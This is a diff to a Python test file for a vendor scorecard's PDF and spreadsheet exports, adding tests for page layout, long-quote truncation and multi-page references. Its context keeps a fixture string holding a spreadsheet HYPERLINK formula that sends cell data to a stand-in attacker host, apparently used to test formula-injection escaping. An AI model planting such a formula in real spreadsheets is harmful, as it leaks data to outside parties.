@@ -14,13 +14,27 @@ from scoring.export import comparison_pdf, comparison_xlsx, scorecard_pdf, score
 HOSTILE = '=HYPERLINK("https://attacker.example/?d="&A1,"Details")'
 
 
-def card_with(quote: str, audit: str = "yes"):
-    evidence = (Evidence("0" * 64, 3, 10, 10 + len(quote), quote, "dpa.pdf"),)
+def passage(quote: str, page: int = 3, file: str = "dpa.pdf") -> Evidence:
+    return Evidence("0" * 64, page, 10, 10 + len(quote), quote, file)
+
+
+def card_from(audit_evidence: tuple[Evidence, ...], breach_evidence: tuple[Evidence, ...], audit: str = "yes"):
     answers = {
-        "audit_rights": Answer("audit_rights", audit, Status.ANSWERED, 0.9, evidence=evidence),
-        "breach_notification_hours": Answer("breach_notification_hours", 24, Status.ANSWERED, 0.9, evidence=evidence),
+        "audit_rights": Answer("audit_rights", audit, Status.ANSWERED, 0.9, evidence=audit_evidence),
+        "breach_notification_hours": Answer(
+            "breach_notification_hours", 24, Status.ANSWERED, 0.9, evidence=breach_evidence
+        ),
     }
     return score(answers, Intake.default(), load_profile())
+
+
+def card_with(quote: str, audit: str = "yes"):
+    evidence = (passage(quote),)
+    return card_from(evidence, evidence, audit)
+
+
+def pdf_text(data: bytes) -> str:
+    return "\n".join(page.extract_text() for page in pypdf.PdfReader(io.BytesIO(data)).pages)
 
 
 def test_cells_that_would_run_as_formulas_are_written_as_text():
@@ -57,6 +71,36 @@ def test_the_scorecard_pdf_names_vendor_decision_and_quotes():
     assert "Scorecard: Lumora <b>AI</b>" in text
     assert f"score {card.score:.1f}" in text and card.decision in text
     assert "Customer may audit the processing once a year." in " ".join(text.split())  # table cells wrap lines
+
+
+def test_the_scorecard_pdf_is_landscape_with_room_for_a_passage_on_one_line():
+    data = scorecard_pdf(card_with("Customer may audit the processing once a year."), "Lumora AI")
+    page = pypdf.PdfReader(io.BytesIO(data)).pages[0]
+    assert page.mediabox.width > page.mediabox.height
+    assert "dpa.pdf p. 3: “Customer may audit the processing once a year.”" in pdf_text(data).splitlines()
+
+
+def test_a_quote_longer_than_a_page_is_cut_in_the_pdf_and_keeps_its_file_and_page():
+    quote = ("The customer may audit the processor's compliance with this agreement. " * 300)[:20_000]
+    card = card_from((passage(quote, page=7, file="msa.pdf"),), (passage("Breaches are notified in 24 hours."),))
+    text = " ".join(pdf_text(scorecard_pdf(card, "Lumora AI")).split())
+    assert "audit_rights" in text and "breach_notification_hours" in text
+    assert "msa.pdf p. 7: “The customer may audit" in text
+    assert "(quote continues, 20,000 characters; full text in the XLSX export)" in text
+    assert "dpa.pdf p. 3: “Breaches are notified in 24 hours.”" in text
+    points = openpyxl.load_workbook(io.BytesIO(scorecard_xlsx(card, "Lumora AI")))["Points"]
+    assert any(quote in (row[8] or "") for row in points.iter_rows(values_only=True))
+
+
+def test_a_key_with_more_passages_than_a_page_holds_runs_on_across_pages_with_every_reference():
+    many = tuple(
+        passage(f"Clause {page}: " + "the processor notifies breaches " * 12, page=page) for page in range(1, 121)
+    )
+    data = scorecard_pdf(card_from(many[:1], many), "Lumora AI")
+    assert len(pypdf.PdfReader(io.BytesIO(data)).pages) > 3
+    text = " ".join(pdf_text(data).split())
+    assert "audit_rights" in text and "breach_notification_hours" in text
+    assert all(f"dpa.pdf p. {page}: “Clause {page}:" in text for page in range(1, 121))
 
 
 def test_a_comparison_exports_one_column_per_vendor():
